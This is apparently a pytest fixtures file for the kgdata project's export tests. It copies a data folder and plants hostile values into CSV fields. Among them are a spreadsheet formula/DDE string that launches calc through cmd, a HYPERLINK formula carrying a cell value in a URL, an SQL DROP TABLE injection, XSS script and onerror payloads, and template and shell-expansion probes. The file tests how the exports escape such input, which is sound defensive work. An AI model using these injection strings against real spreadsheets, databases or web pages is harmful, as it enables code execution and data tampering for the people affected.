"""Every export, written once, and a data folder of another's with what a hostile hand would put into it."""

import csv
import functools
import shutil
from pathlib import Path

import pytest

import kgdata
from kgdata import exporting

ROOT = Path(__file__).parents[2]

#: Texts that some program would run, by the table, the field and the row they are put into.
HOSTILE = {
    ("timeline", "title", 0): '=HYPERLINK("https://example.org/?"&A1;"here")',
    ("timeline", "summary", 0): "@SUM(1+1)*cmd|' /C calc'!A0",
    ("timeline", "title", 1): 'Robert\'); DROP TABLE "timeline";--',
    ("timeline", "summary", 1): "<img src=x onerror=alert(1)><script>alert(2)</script>]]>",
    ("timeline", "title", 2): "<b onclick=alert(3)>&lt;bold",
    ("timeline", "note", 2): "'=1 begins with an apostrophe already",
    ("entities", "summary", 0): "+1, as they say, and \\n or \\u0000 or %0A",
    ("entities", "summary", 1): "-1 of all, {{7*7}} ${HOME} `id`",
    ("claims", "note", 0): "＝1 in a wide letter",
}


@pytest.fixture(scope="session")
def exported(tmp_path_factory):
    """``exported(format)`` is the path of our data in that format."""
    folder = tmp_path_factory.mktemp("exported")

    @functools.cache
    def exported(format: str) -> Path:
        return kgdata.export(format, folder / exporting.FORMATS[format].target)

    return exported


@pytest.fixture(scope="session")
def hostile_texts() -> dict:
    """What is in it: (table, field, number of the row) -> text."""
    return HOSTILE


@pytest.fixture
def copy(tmp_path) -> Path:
    """A copy of the data folder that a test may change."""
    return shutil.copytree(ROOT / "data", tmp_path / "data", copy_function=shutil.copyfile)


@pytest.fixture(scope="session")
def hostile(tmp_path_factory) -> Path:
    """A sound data folder, some texts of which are meant to be run."""
    folder = shutil.copytree(ROOT / "data", tmp_path_factory.mktemp("hostile") / "data", copy_function=shutil.copyfile)
    for table in {table for table, _, _ in HOSTILE}:
        path = folder / f"{table}.csv"
        with path.open(encoding="utf-8", newline="") as file:
            header, *rows = csv.reader(file)
        for (where, field, number), text in HOSTILE.items():
            if where == table:
                rows[number][header.index(field)] = text
        with path.open("w", encoding="utf-8", newline="") as file:
            csv.writer(file, lineterminator="\n").writerows([header, *rows])
    assert kgdata.validate(folder) == []
    return folder


@pytest.fixture
def theirs(hostile):
    """kgdata reads that folder."""
    kgdata.use(hostile)
    yield hostile
    kgdata.use(None)
